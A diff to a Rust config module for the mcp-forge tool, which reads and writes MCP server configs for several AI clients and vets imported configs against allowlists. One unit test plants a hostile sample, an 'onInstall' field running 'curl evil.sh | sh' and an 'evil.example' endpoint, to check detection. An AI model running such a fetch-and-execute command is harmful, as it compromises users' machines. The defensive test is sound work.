@@ -1,13 +1,16 @@
+use crate::backup::{BackupMode, BackupPolicy};
+use crate::layers::LayerChoice;
+use crate::transaction::Transaction;
 use crate::utils;
 use anyhow::{Context, Result};
 use serde::{Deserialize, Serialize};
 use std::collections::HashMap;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 use tokio::fs;
 
 /// Represents an MCP server configuration
 /// Supports both command-based and URL-based servers
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
 pub struct McpServer {
     #[serde(skip_serializing_if = "Option::is_none")]
     pub command: Option<String>,
@@ -17,26 +20,558 @@ pub struct McpServer {
     pub url: Option<String>,
     #[serde(skip_serializing_if = "Option::is_none")]
     pub env: Option<HashMap<String, String>>,
+    /// Seconds a client waits on the server before giving up (Cline, Cursor)
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub timeout: Option<i64>,
+    /// Tools a client may call without asking first (Cline, Cursor)
+    #[serde(rename = "autoApprove", skip_serializing_if = "Option::is_none")]
+    pub auto_approve: Option<Vec<String>>,
     #[serde(flatten)]
     pub other: HashMap<String, serde_json::Value>,
 }
 
+/// Extra per-server fields Claude Desktop is known to accept
+pub const KNOWN_SERVER_FIELDS: &[&str] = &["type", "headers", "cwd", "disabled"];
+
+/// Server fields `McpServer` models itself; an extra field with one of these
+/// names would be written twice
+pub const TYPED_SERVER_FIELDS: &[&str] =
+    &["command", "args", "url", "env", "timeout", "autoApprove"];
+
+/// Extra top-level keys Claude Desktop is known to accept
+pub const KNOWN_TOP_LEVEL_KEYS: &[&str] = &["globalShortcut"];
+
+/// A field outside the known schema, found in an imported configuration
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
+pub enum UnknownField {
+    TopLevel(String),
+    Server { server: String, field: String },
+}
+
+impl std::fmt::Display for UnknownField {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            UnknownField::TopLevel(key) => write!(f, "top-level key '{}'", key),
+            UnknownField::Server { server, field } => {
+                write!(f, "field '{}' on server '{}'", field, server)
+            }
+        }
+    }
+}
+
+/// The MCP client whose config file mcp-forge manages, chosen with `--target`
+#[derive(Debug, Clone, Default, PartialEq)]
+pub enum Host {
+    #[default]
+    Claude,
+    Cursor,
+    VsCode,
+    Windsurf,
+    /// A Claude-shaped config file somewhere else
+    Custom(PathBuf),
+}
+
+impl std::str::FromStr for Host {
+    type Err = String;
+
+    fn from_str(value: &str) -> std::result::Result<Self, Self::Err> {
+        match value {
+            "claude" => Ok(Self::Claude),
+            "cursor" => Ok(Self::Cursor),
+            "vscode" => Ok(Self::VsCode),
+            "windsurf" => Ok(Self::Windsurf),
+            _ => match value.strip_prefix("custom:").map(str::trim) {
+                Some("") => {
+                    Err("custom: needs a config file path, e.g. custom:./mcp.json".to_string())
+                }
+                Some(path) => Ok(Self::Custom(PathBuf::from(path))),
+                None => Err(format!(
+                    "'{}' is not a target; use claude, cursor, vscode, windsurf or custom:<path>",
+                    value
+                )),
+            },
+        }
+    }
+}
+
+impl std::fmt::Display for Host {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Host::Claude => f.write_str("Claude Desktop"),
+            Host::Cursor => f.write_str("Cursor"),
+            Host::VsCode => f.write_str("VS Code"),
+            Host::Windsurf => f.write_str("Windsurf"),
+            Host::Custom(path) => write!(f, "{}", path.display()),
+        }
+    }
+}
+
+impl Host {
+    /// The top-level key the host keeps its servers under
+    fn servers_key(&self) -> &'static str {
+        match self {
+            Host::VsCode => "servers",
+            _ => "mcpServers",
+        }
+    }
+
+    /// Reshape the host's config file into the form `Config` reads
+    pub fn to_internal(&self, mut value: serde_json::Value) -> serde_json::Value {
+        let Some(root) = value.as_object_mut() else {
+            return value;
+        };
+        if self.servers_key() != "mcpServers" {
+            if let Some(servers) = root.remove(self.servers_key()) {
+                root.insert("mcpServers".to_string(), servers);
+            }
+        }
+        if *self == Host::Windsurf {
+            for server in server_objects(root) {
+                // Windsurf calls a remote server's URL `serverUrl`
+                if !server.contains_key("url") {
+                    if let Some(url) = server.remove("serverUrl") {
+                        server.insert("url".to_string(), url);
+                    }
+                }
+            }
+        }
+        value
+    }
+
+    /// Reshape a serialized `Config` into the host's config file
+    pub fn to_host(&self, mut value: serde_json::Value) -> serde_json::Value {
+        let Some(root) = value.as_object_mut() else {
+            return value;
+        };
+        match self {
+            Host::VsCode => {
+                for server in server_objects(root) {
+                    // VS Code needs to be told how to reach each server
+                    if !server.contains_key("type") {
+                        let kind = if server.contains_key("url") {
+                            "http"
+                        } else {
+                            "stdio"
+                        };
+                        server.insert("type".to_string(), kind.into());
+                    }
+                }
+                if let Some(servers) = root.remove("mcpServers") {
+                    root.insert("servers".to_string(), servers);
+                }
+            }
+            Host::Windsurf => {
+                for server in server_objects(root) {
+                    if let Some(url) = server.remove("url") {
+                        server.insert("serverUrl".to_string(), url);
+                    }
+                }
+            }
+            Host::Claude | Host::Cursor | Host::Custom(_) => {}
+        }
+        value
+    }
+}
+
+/// Every server object in an internal-shaped config, active or disabled
+fn server_objects(
+    root: &mut serde_json::Map<String, serde_json::Value>,
+) -> impl Iterator<Item = &mut serde_json::Map<String, serde_json::Value>> {
+    root.iter_mut()
+        .filter(|(name, _)| *name == "mcpServers" || *name == "disabledServers")
+        .filter_map(|(_, servers)| servers.as_object_mut())
+        .flat_map(|servers| servers.values_mut())
+        .filter_map(|server| server.as_object_mut())
+}
+
+/// The config file a command reads and writes: the `--target` client's, or
+/// the file given with `--config` or `MCP_FORGE_CONFIG` in place of Claude
+/// Desktop's
+#[derive(Debug, Clone, Default)]
+pub struct Target {
+    pub host: Host,
+    /// Claude Desktop config file to use instead of the standard one
+    pub config_file: Option<PathBuf>,
+    /// How the config is backed up before it is changed
+    pub backups: BackupPolicy,
+    /// Treat `mcpServers: null` or a list as no servers without asking, as
+    /// `--force` does
+    pub force_empty_servers: bool,
+    /// Replace a symlinked config file with a regular one on save instead of
+    /// writing through it, as chosen with `--force-replace-symlink`
+    pub replace_symlinks: bool,
+    /// The overlay layer changes go to, once overlays are configured
+    pub layer: LayerChoice,
+}
+
+impl Target {
+    /// Target for `--target` and `--config`, falling back to `MCP_FORGE_CONFIG`
+    ///
+    /// The override only applies to Claude Desktop; other clients always use
+    /// their own file.
+    pub fn new(host: Host, config_flag: Option<PathBuf>) -> Self {
+        let setting = std::env::var_os("MCP_FORGE_CONFIG").map(PathBuf::from);
+        let config_file = match host {
+            Host::Claude => utils::config_override_from(config_flag, setting),
+            _ => None,
+        };
+        Self {
+            host,
+            config_file,
+            backups: BackupPolicy::default(),
+            force_empty_servers: false,
+            replace_symlinks: false,
+            layer: LayerChoice::default(),
+        }
+    }
+
+    /// Back up the config as `mode` says before changing it
+    pub fn with_backup_mode(mut self, mode: BackupMode) -> Self {
+        self.backups = BackupPolicy::new(mode);
+        self
+    }
+
+    /// Treat a null or list `mcpServers` as empty without asking
+    pub fn with_force_empty_servers(mut self, force: bool) -> Self {
+        self.force_empty_servers = force;
+        self
+    }
+
+    /// Replace a symlinked config file on save instead of writing through it
+    pub fn with_replace_symlinks(mut self, replace: bool) -> Self {
+        self.replace_symlinks = replace;
+        self
+    }
+
+    /// Load and save the layer `layer` picks instead of the merged view
+    pub fn with_layer(mut self, layer: LayerChoice) -> Self {
+        self.layer = layer;
+        self
+    }
+
+    /// The config file commands read and write
+    pub fn config_path(&self) -> Result<PathBuf> {
+        match &self.config_file {
+            Some(path) => Ok(path.clone()),
+            None => utils::get_config_path_for_target(&self.host),
+        }
+    }
+
+    /// Directory for what mcp-forge keeps about this config: server metadata,
+    /// backups, the operations log, the lock and the pending-write journal
+    ///
+    /// Claude Desktop's live in its config directory. Every other client gets
+    /// a subdirectory of it, so its servers' metadata and backups never mix
+    /// with Claude's, and a `custom:` file or one given with `--config` keeps
+    /// them beside it.
+    pub fn state_dir(&self) -> Result<PathBuf> {
+        if let Some(path) = &self.config_file {
+            return Ok(parent_dir(path));
+        }
+        let config_dir = utils::get_config_dir()?;
+        let client = match &self.host {
+            Host::Claude => return Ok(config_dir),
+            Host::Cursor => "cursor",
+            Host::VsCode => "vscode",
+            Host::Windsurf => "windsurf",
+            Host::Custom(path) => return Ok(parent_dir(path)),
+        };
+        Ok(config_dir.join("targets").join(client))
+    }
+
+    /// Get the backup directory
+    pub fn backup_dir(&self) -> Result<PathBuf> {
+        Ok(self.state_dir()?.join("backups"))
+    }
+}
+
+/// Directory a config file is in
+fn parent_dir(path: &Path) -> PathBuf {
+    path.parent().unwrap_or(Path::new(".")).to_path_buf()
+}
+
+/// Top-level keys that look like a misspelled `mcpServers`, e.g. `mcp_servers`
+fn misspelled_servers_keys(root: &serde_json::Map<String, serde_json::Value>) -> Vec<String> {
+    root.keys()
+        .filter(|key| *key != "mcpServers")
+        .filter(|key| {
+            let folded: String = key
+                .chars()
+                .filter(|c| *c != '_' && *c != '-')
+                .flat_map(char::to_lowercase)
+                .collect();
+            folded == "mcpservers"
+        })
+        .cloned()
+        .collect()
+}
+
+/// What a JSON value is, for messages about the wrong type
+fn describe_shape(value: &serde_json::Value) -> String {
+    match value {
+        serde_json::Value::Null => "null".to_string(),
+        serde_json::Value::Bool(_) => "a boolean".to_string(),
+        serde_json::Value::Number(_) => "a number".to_string(),
+        serde_json::Value::String(_) => "a string".to_string(),
+        serde_json::Value::Array(items) => format!("a list of {} item(s)", items.len()),
+        serde_json::Value::Object(_) => "an object".to_string(),
+    }
+}
+
+/// Make sure an internal-shaped config has an object of servers before it is
+/// deserialized
+///
+/// A missing `mcpServers` means no servers, unless a misspelled key suggests
+/// the user meant one. `null` or a list counts as empty only with `--force` or
+/// after confirming, since a save then replaces it with `{}`.
+fn check_servers(value: &mut serde_json::Value, path: &Path, target: &Target) -> Result<()> {
+    let Some(root) = value.as_object_mut() else {
+        return Ok(());
+    };
+    let key = target.host.servers_key();
+    let misspelled = if key == "mcpServers" {
+        misspelled_servers_keys(root)
+    } else {
+        Vec::new()
+    };
+
+    let Some(servers) = root.get("mcpServers") else {
+        if let Some(found) = misspelled.first() {
+            return Err(anyhow::anyhow!(
+                "{} has '{}' but no '{}' — did you mean {}? Run `mcp-forge config repair` to rename it",
+                path.display(),
+                found,
+                key,
+                key
+            ));
+        }
+        root.insert("mcpServers".to_string(), serde_json::json!({}));
+        return Ok(());
+    };
+    for found in &misspelled {
+        eprintln!(
+            "⚠ {} has '{}' as well as '{}'; servers under '{}' are ignored. Run `mcp-forge config repair` to merge them",
+            path.display(),
+            found,
+            key,
+            found
+        );
+    }
+
+    let problem = match servers {
+        serde_json::Value::Object(_) => return Ok(()),
+        serde_json::Value::Null | serde_json::Value::Array(_) => format!(
+            "'{}' in {} is {}",
+            key,
+            path.display(),
+            describe_shape(servers)
+        ),
+        other => {
+            return Err(anyhow::anyhow!(
+                "'{}' in {} is {}, not an object of servers. Fix the file, or restore a backup",
+                key,
+                path.display(),
+                describe_shape(other)
+            ))
+        }
+    };
+    if !target.force_empty_servers && !confirm_empty_servers(&problem)? {
+        return Err(anyhow::anyhow!(
+            "{}, not an object of servers. Run `mcp-forge config repair` to fix it, or pass --force to treat it as empty",
+            problem
+        ));
+    }
+    eprintln!(
+        "⚠ {}; treating it as empty, so saving will replace it with {{}}",
+        problem
+    );
+    root.insert("mcpServers".to_string(), serde_json::json!({}));
+    Ok(())
+}
+
+/// Ask whether to go on with no servers; never asks without a terminal
+fn confirm_empty_servers(problem: &str) -> Result<bool> {
+    if !std::io::IsTerminal::is_terminal(&std::io::stdin()) {
+        return Ok(false);
+    }
+    Ok(inquire::Confirm::new(&format!(
+        "{}. Treat it as no servers? Saving will replace it with {{}}",
+        problem
+    ))
+    .with_default(false)
+    .prompt()?)
+}
+
+/// Fix the servers key of a host-shaped config in place, describing each fix
+///
+/// A misspelled key is renamed, or merged into the real one; `null` and an
+/// empty list become `{}`. A list holding entries can't be fixed safely, and
+/// neither can a merge where both keys have a server of the same name.
+pub fn repair_servers(value: &mut serde_json::Value, host: &Host) -> Result<Vec<String>> {
+    let root = value
+        .as_object_mut()
+        .context("The config file is not a JSON object")?;
+    let key = host.servers_key();
+    let mut fixes = Vec::new();
+
+    let misspelled = if key == "mcpServers" {
+        misspelled_servers_keys(root)
+    } else {
+        Vec::new()
+    };
+    for found in misspelled {
+        let servers = match root.get(key) {
+            None | Some(serde_json::Value::Null) => serde_json::Map::new(),
+            Some(serde_json::Value::Array(items)) if items.is_empty() => serde_json::Map::new(),
+            Some(serde_json::Value::Object(servers)) => servers.clone(),
+            Some(other) => {
+                return Err(anyhow::anyhow!(
+                    "'{}' is {}; fix it by hand before merging '{}' into it",
+                    key,
+                    describe_shape(other),
+                    found
+                ))
+            }
+        };
+        let moved = match &root[&found] {
+            serde_json::Value::Object(moved) => moved.clone(),
+            serde_json::Value::Null => serde_json::Map::new(),
+            other => {
+                return Err(anyhow::anyhow!(
+                    "'{}' is {}, not an object of servers; fix it by hand",
+                    found,
+                    describe_shape(other)
+                ))
+            }
+        };
+        if let Some(name) = moved.keys().find(|name| servers.contains_key(*name)) {
+            return Err(anyhow::anyhow!(
+                "Both '{}' and '{}' have a server named '{}'; fix it by hand",
+                found,
+                key,
+                name
+            ));
+        }
+
+        let fix = if root.contains_key(key) {
+            format!(
+                "merged {} server(s) from '{}' into '{}'",
+                moved.len(),
+                found,
+                key
+            )
+        } else {
+            format!("renamed '{}' to '{}'", found, key)
+        };
+        let mut merged = servers;
+        merged.extend(moved);
+        // Keep the servers where the misspelled key was
+        *root = std::mem::take(root)
+            .into_iter()
+            .filter(|(k, _)| k != key)
+            .map(|(k, v)| {
+                if k == found {
+                    (key.to_string(), serde_json::Value::Object(merged.clone()))
+                } else {
+                    (k, v)
+                }
+            })
+            .collect();
+        fixes.push(fix);
+    }
+
+    match root.get(key) {
+        Some(serde_json::Value::Null) => {
+            root.insert(key.to_string(), serde_json::json!({}));
+            fixes.push(format!("replaced null '{}' with {{}}", key));
+        }
+        Some(serde_json::Value::Array(items)) if items.is_empty() => {
+            root.insert(key.to_string(), serde_json::json!({}));
+            fixes.push(format!("replaced empty list '{}' with {{}}", key));
+        }
+        Some(serde_json::Value::Array(items)) => {
+            return Err(anyhow::anyhow!(
+                "'{}' is a list of {} item(s), which can't be turned into named servers automatically; fix it by hand",
+                key,
+                items.len()
+            ))
+        }
+        _ => {}
+    }
+    Ok(fixes)
+}
+
+/// Config file text in the form `Config` reads, for checks that work on raw JSON
+///
+/// Text that doesn't parse, or that is already in that form, is returned as is.
+pub fn internal_content(content: &str, host: &Host) -> String {
+    if matches!(host, Host::Claude | Host::Cursor | Host::Custom(_)) {
+        return content.to_string();
+    }
+    match serde_json::from_str(content) {
+        Ok(value) => serde_json::to_string_pretty(&host.to_internal(value))
+            .unwrap_or_else(|_| content.to_string()),
+        Err(_) => content.to_string(),
+    }
+}
+
+/// The profile and config file a command operates on
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct ConfigTarget {
+    pub profile: Option<String>,
+    pub config_path: PathBuf,
+}
+
+impl ConfigTarget {
+    /// Resolve the target the same way `Config::load` and profile tracking do
+    pub async fn resolve(target: &Target, profile: Option<&str>) -> Result<Self> {
+        // Profiles only track the Claude Desktop config
+        let profile = if target.host == Host::Claude {
+            crate::profiles::effective_profile(profile).await?
+        } else {
+            None
+        };
+        Ok(Self {
+            profile,
+            config_path: target.config_path()?,
+        })
+    }
+
+    /// One-line footer, e.g. `profile: work → /path/to/claude_desktop_config.json`
+    pub fn footer(&self) -> String {
+        format!(
+            "profile: {} → {}",
+            self.profile.as_deref().unwrap_or("default"),
+            self.config_path.display()
+        )
+    }
+}
+
 /// Represents the Claude Desktop configuration structure
 #[derive(Debug, Clone, Serialize, Deserialize, Default)]
 pub struct Config {
     #[serde(rename = "mcpServers")]
     pub mcp_servers: HashMap<String, McpServer>,
+    /// Servers turned off with `disable`, kept so `enable` can restore them
+    #[serde(
+        rename = "disabledServers",
+        default,
+        skip_serializing_if = "HashMap::is_empty"
+    )]
+    pub disabled_servers: HashMap<String, McpServer>,
     #[serde(flatten)]
     pub other: HashMap<String, serde_json::Value>,
 }
 
 impl Config {
     /// Load configuration from file
-    /// Always loads from the main Claude Desktop configuration file
-    pub async fn load(_profile: Option<&str>) -> Result<Self> {
-        // Always load from the main Claude Desktop config file
-        // The profile parameter is ignored - profiles are managed separately
-        let config_path = utils::get_claude_config_path()?;
+    /// Always loads from the main config file of the target; profiles are
+    /// managed separately
+    pub async fn load(target: &Target) -> Result<Self> {
+        if let Some(layers) = crate::layers::active(target)? {
+            return crate::layers::load(target, &layers);
+        }
+        let config_path = target.config_path()?;
 
         if !config_path.exists() {
             return Ok(Self::default());
@@ -46,48 +581,44 @@ impl Config {
             .await
             .with_context(|| format!("Failed to read config file: {}", config_path.display()))?;
 
-        let config: Self = serde_json::from_str(&content)
-            .with_context(|| format!("Failed to parse config file: {}", config_path.display()))?;
-
-        Ok(config)
+        Self::parse(&content, &config_path, target)
     }
 
-    /// Save configuration to file
-    /// Always saves to the main Claude Desktop configuration file
-    pub async fn save(&self, _profile: Option<&str>) -> Result<()> {
-        // Always save to the main Claude Desktop config file
-        // The profile parameter is ignored - profiles are managed separately
-        let config_path = utils::get_claude_config_path()?;
+    /// Parse the text of a config file read from `path`, shaped for the
+    /// target's client
+    pub fn parse(content: &str, path: &Path, target: &Target) -> Result<Self> {
+        let value: serde_json::Value = serde_json::from_str(content)
+            .with_context(|| format!("Failed to parse config file: {}", path.display()))?;
+        let mut value = target.host.to_internal(value);
+        check_servers(&mut value, path, target)?;
+        serde_json::from_value(value)
+            .with_context(|| format!("Failed to parse config file: {}", path.display()))
+    }
 
-        // Ensure parent directory exists
-        if let Some(parent) = config_path.parent() {
-            fs::create_dir_all(parent).await.with_context(|| {
-                format!("Failed to create config directory: {}", parent.display())
-            })?;
+    /// Queue the config for saving to the target, in its client's format
+    ///
+    /// There is no direct save: every change goes through a [`Transaction`] so
+    /// the profile snapshot and metadata are written with it, and the client
+    /// never sees a half-written file.
+    pub fn stage(&self, target: &Target, transaction: &mut Transaction) -> Result<()> {
+        if let Some(layers) = crate::layers::active(target)? {
+            return crate::layers::stage(self, target, &layers, transaction);
         }
-
-        let content =
-            serde_json::to_string_pretty(self).context("Failed to serialize configuration")?;
-
-        fs::write(&config_path, content)
-            .await
-            .with_context(|| format!("Failed to write config file: {}", config_path.display()))?;
-
+        let value = serde_json::to_value(self).context("Failed to serialize configuration")?;
+        let content = serde_json::to_string_pretty(&target.host.to_host(value))
+            .context("Failed to serialize configuration")?;
+        crate::config_size::warn_if_large(self, content.len());
+        transaction.write(target.config_path()?, content);
         Ok(())
     }
 
-    /// Create a backup of the current configuration
-    pub async fn create_backup(&self) -> Result<PathBuf> {
-        let backup_dir = utils::get_backup_dir()?;
-        fs::create_dir_all(&backup_dir).await?;
-
-        let timestamp = chrono::Utc::now().format("%Y%m%d_%H%M%S");
-        let backup_path = backup_dir.join(format!("config_backup_{}.json", timestamp));
-
-        let content = serde_json::to_string_pretty(self)?;
-        fs::write(&backup_path, content).await?;
-
-        Ok(backup_path)
+    /// Add the servers of `other` to a copy of this config, replacing any of the same name
+    pub fn merged_with(&self, other: &Config) -> Config {
+        let mut merged = self.clone();
+        for (name, server) in &other.mcp_servers {
+            merged.mcp_servers.insert(name.clone(), server.clone());
+        }
+        merged
     }
 
     /// Get a specific MCP server
@@ -95,12 +626,76 @@ impl Config {
         self.mcp_servers.get(name)
     }
 
-    /// List all MCP servers
-    pub fn list_servers(&self) -> Vec<(String, &McpServer)> {
-        self.mcp_servers
-            .iter()
-            .map(|(k, v)| (k.clone(), v))
-            .collect()
+    /// Move a server out of `mcpServers` into `disabledServers`
+    ///
+    /// Returns the disabled copy it replaced, if there was one.
+    pub fn disable_server(&mut self, name: &str) -> Result<Option<McpServer>> {
+        let server = self
+            .mcp_servers
+            .remove(name)
+            .with_context(|| format!("Server '{}' not found", name))?;
+        Ok(self.disabled_servers.insert(name.to_string(), server))
+    }
+
+    /// Move a server to a new name, leaving it otherwise untouched
+    ///
+    /// With `keep_old` a disabled copy stays behind under the old name. Returns
+    /// the active server it replaced, if there was one.
+    pub fn rename_server(
+        &mut self,
+        old: &str,
+        new: &str,
+        keep_old: bool,
+    ) -> Result<Option<McpServer>> {
+        let server = self
+            .mcp_servers
+            .remove(old)
+            .with_context(|| format!("Server '{}' not found", old))?;
+        if keep_old {
+            self.disabled_servers
+                .insert(old.to_string(), server.clone());
+        }
+        Ok(self.mcp_servers.insert(new.to_string(), server))
+    }
+
+    /// Move a disabled server back into `mcpServers` as `as_name`
+    ///
+    /// Returns the active server it replaced, if there was one.
+    pub fn enable_server(&mut self, name: &str, as_name: &str) -> Result<Option<McpServer>> {
+        let server = self
+            .disabled_servers
+            .remove(name)
+            .with_context(|| format!("No disabled server named '{}'", name))?;
+        Ok(self.mcp_servers.insert(as_name.to_string(), server))
+    }
+
+    /// Find passthrough fields that aren't on the known-benign allowlists
+    ///
+    /// Loading and saving the user's own config keeps every field; this is for
+    /// vetting configs that come from somewhere else before they're merged in.
+    pub fn unknown_fields(&self) -> Vec<UnknownField> {
+        let mut unknown: Vec<UnknownField> = self
+            .other
+            .keys()
+            .filter(|key| !KNOWN_TOP_LEVEL_KEYS.contains(&key.as_str()))
+            .map(|key| UnknownField::TopLevel(key.clone()))
+            .collect();
+
+        for (name, server) in &self.mcp_servers {
+            unknown.extend(
+                server
+                    .other
+                    .keys()
+                    .filter(|field| !KNOWN_SERVER_FIELDS.contains(&field.as_str()))
+                    .map(|field| UnknownField::Server {
+                        server: name.clone(),
+                        field: field.clone(),
+                    }),
+            );
+        }
+
+        unknown.sort();
+        unknown
     }
 }
 
@@ -116,8 +711,69 @@ impl McpServer {
         self.command.is_some()
     }
 
+    /// Copy of the server with every occurrence of the given values masked
+    ///
+    /// Used for values known to be secret, such as template variables flagged
+    /// `secret`, which may end up in args or innocuously named env vars.
+    pub fn with_values_masked(&self, secrets: &[String]) -> McpServer {
+        let mask = |text: &str| {
+            secrets
+                .iter()
+                .filter(|secret| !secret.is_empty())
+                .fold(text.to_string(), |text, secret| {
+                    text.replace(secret.as_str(), "********")
+                })
+        };
+
+        let mut masked = self.clone();
+        masked.command = self.command.as_deref().map(mask);
+        masked.url = self.url.as_deref().map(mask);
+        masked.args = self
+            .args
+            .as_ref()
+            .map(|args| args.iter().map(|arg| mask(arg)).collect());
+        masked.env = self.env.as_ref().map(|env| {
+            env.iter()
+                .map(|(key, value)| (key.clone(), mask(value)))
+                .collect()
+        });
+        masked
+    }
+
+    /// Whether the server is switched off with `"disabled": true`
+    pub fn is_disabled(&self) -> bool {
+        self.other.get("disabled").and_then(|v| v.as_bool()) == Some(true)
+    }
+
+    /// Fields still holding handlebars syntax such as `{{readonly}}`, with the
+    /// offending fragment
+    pub fn unrendered_fragments(&self) -> Vec<(String, String)> {
+        let mut fields: Vec<(String, &str)> = Vec::new();
+        if let Some(command) = &self.command {
+            fields.push(("command".to_string(), command));
+        }
+        if let Some(url) = &self.url {
+            fields.push(("url".to_string(), url));
+        }
+        for (i, arg) in self.args.iter().flatten().enumerate() {
+            fields.push((format!("argument {}", i + 1), arg));
+        }
+        if let Some(env) = &self.env {
+            let mut keys: Vec<&String> = env.keys().collect();
+            keys.sort();
+            for key in keys {
+                fields.push((format!("env key '{}'", key), key));
+                fields.push((format!("env var '{}'", key), &env[key]));
+            }
+        }
+
+        fields
+            .into_iter()
+            .filter_map(|(field, value)| handlebars_fragment(value).map(|f| (field, f)))
+            .collect()
+    }
+
     /// Validate the server configuration
-    #[allow(dead_code)] // May be used in future validation workflows
     pub fn validate(&self) -> Result<()> {
         // A server must have either a URL or a command, but not both
         match (self.url.as_ref(), self.command.as_ref()) {
@@ -139,7 +795,6 @@ impl McpServer {
     }
 
     /// Get a display string for the server type
-    #[allow(dead_code)] // Used in tests and for future display features
     pub fn server_type(&self) -> &str {
         if self.is_url_server() {
             "url"
@@ -149,10 +804,94 @@ impl McpServer {
     }
 }
 
+/// The first `{{...}}` in a value, if any
+///
+/// Only an opening `{{` followed by something handlebars could parse counts, so
+/// JSON values with nested objects (`{"a": {"b": 1}}`) aren't mistaken for it.
+fn handlebars_fragment(value: &str) -> Option<String> {
+    const MAX_CHARS: usize = 40;
+    let start = value.match_indices("{{").map(|(i, _)| i).find(|&i| {
+        value[i..]
+            .trim_start_matches('{')
+            .trim_start_matches('~')
+            .trim_start()
+            .starts_with(|c: char| c.is_alphabetic() || "#/^!>@._".contains(c))
+    })?;
+    let fragment = match value[start..].find("}}") {
+        Some(end) => &value[start..start + end + 2],
+        None => &value[start..],
+    };
+    Some(crate::utils::display::truncate_value(fragment, MAX_CHARS))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    #[test]
+    fn test_host_parsing() {
+        assert_eq!("vscode".parse::<Host>(), Ok(Host::VsCode));
+        assert_eq!(
+            "custom:./mcp.json".parse::<Host>(),
+            Ok(Host::Custom(PathBuf::from("./mcp.json")))
+        );
+        assert!("custom:".parse::<Host>().is_err());
+        assert!("zed".parse::<Host>().unwrap_err().contains("windsurf"));
+    }
+
+    #[test]
+    fn test_state_dir_per_client() {
+        let state_dir = |host: Host| {
+            Target {
+                host,
+                ..Target::default()
+            }
+            .state_dir()
+            .unwrap()
+        };
+        let claude = state_dir(Host::Claude);
+        assert_eq!(claude, utils::get_config_dir().unwrap());
+        assert_eq!(state_dir(Host::Cursor), claude.join("targets/cursor"));
+        assert_ne!(state_dir(Host::Cursor), state_dir(Host::Windsurf));
+        assert_eq!(
+            state_dir(Host::Custom(PathBuf::from("/work/project/mcp.json"))),
+            PathBuf::from("/work/project")
+        );
+    }
+
+    #[test]
+    fn test_host_adapters_round_trip() {
+        let internal = serde_json::json!({
+            "mcpServers": {
+                "fs": { "command": "npx", "args": ["fs-mcp"] },
+                "web": { "url": "https://example.com/mcp" }
+            },
+            "disabledServers": { "old": { "url": "https://old.example.com" } },
+            "theme": "dark"
+        });
+
+        let vscode = Host::VsCode.to_host(internal.clone());
+        assert!(vscode.get("mcpServers").is_none());
+        assert_eq!(vscode["servers"]["fs"]["type"], "stdio");
+        assert_eq!(vscode["servers"]["web"]["type"], "http");
+        let back: Config = serde_json::from_value(Host::VsCode.to_internal(vscode)).unwrap();
+        assert_eq!(back.mcp_servers["fs"].command.as_deref(), Some("npx"));
+        assert_eq!(back.other["theme"], "dark");
+
+        let windsurf = Host::Windsurf.to_host(internal.clone());
+        assert_eq!(
+            windsurf["mcpServers"]["web"]["serverUrl"],
+            "https://example.com/mcp"
+        );
+        assert_eq!(
+            windsurf["disabledServers"]["old"]["serverUrl"],
+            "https://old.example.com"
+        );
+        assert_eq!(Host::Windsurf.to_internal(windsurf), internal);
+
+        assert_eq!(Host::Cursor.to_host(internal.clone()), internal);
+    }
+
     #[test]
     fn test_config_serialization() {
         let mut config = Config::default();
@@ -163,6 +902,8 @@ mod tests {
                 args: Some(vec!["server.js".to_string()]),
                 url: None,
                 env: None,
+                timeout: None,
+                auto_approve: None,
                 other: HashMap::new(),
             },
         );
@@ -184,6 +925,8 @@ mod tests {
                 args: None,
                 url: Some("https://example.com/mcp".to_string()),
                 env: None,
+                timeout: None,
+                auto_approve: None,
                 other: HashMap::new(),
             },
         );
@@ -193,13 +936,71 @@ mod tests {
 
         assert_eq!(config.mcp_servers.len(), parsed.mcp_servers.len());
         assert!(parsed.mcp_servers.contains_key("url-server"));
-        
+
         let server = parsed.mcp_servers.get("url-server").unwrap();
         assert!(server.is_url_server());
         assert!(!server.is_command_server());
         assert_eq!(server.server_type(), "url");
     }
 
+    #[test]
+    fn test_unknown_fields() {
+        let config: Config = serde_json::from_str(
+            r#"{
+                "mcpServers": {
+                    "remote": {
+                        "url": "https://example.com/mcp",
+                        "headers": { "X-Team": "core" },
+                        "onInstall": "curl evil.sh | sh"
+                    }
+                },
+                "globalShortcut": "Ctrl+Space",
+                "telemetryEndpoint": "https://evil.example"
+            }"#,
+        )
+        .unwrap();
+
+        assert_eq!(
+            config.unknown_fields(),
+            vec![
+                UnknownField::TopLevel("telemetryEndpoint".to_string()),
+                UnknownField::Server {
+                    server: "remote".to_string(),
+                    field: "onInstall".to_string(),
+                },
+            ]
+        );
+    }
+
+    #[test]
+    fn test_disable_and_enable_server() {
+        let mut config: Config = serde_json::from_str(
+            r#"{ "mcpServers": { "db": { "command": "pg-mcp" } }, "globalShortcut": "Ctrl+Space" }"#,
+        )
+        .unwrap();
+
+        assert_eq!(config.disable_server("db").unwrap(), None);
+        let json = serde_json::to_value(&config).unwrap();
+        assert_eq!(
+            json,
+            serde_json::json!({
+                "mcpServers": {},
+                "disabledServers": { "db": { "command": "pg-mcp" } },
+                "globalShortcut": "Ctrl+Space"
+            })
+        );
+        assert!(config.unknown_fields().is_empty());
+
+        let mut config: Config = serde_json::from_value(json).unwrap();
+        assert!(config.disable_server("db").is_err());
+        assert_eq!(config.enable_server("db", "db-old").unwrap(), None);
+        assert!(config.mcp_servers.contains_key("db-old"));
+        assert!(!serde_json::to_string(&config)
+            .unwrap()
+            .contains("disabledServers"));
+        assert!(config.enable_server("db", "db").is_err());
+    }
+
     #[test]
     fn test_config_operations() {
         let config = Config::default();
@@ -211,4 +1012,107 @@ mod tests {
         let parsed: Config = serde_json::from_str(&json).unwrap();
         assert_eq!(parsed.mcp_servers.len(), 0);
     }
+
+    #[test]
+    fn test_with_values_masked() {
+        let server = McpServer {
+            command: Some("search".to_string()),
+            args: Some(vec!["--auth=sk-123".to_string(), "--region".to_string()]),
+            url: None,
+            env: Some(HashMap::from([(
+                "CREDENTIAL".to_string(),
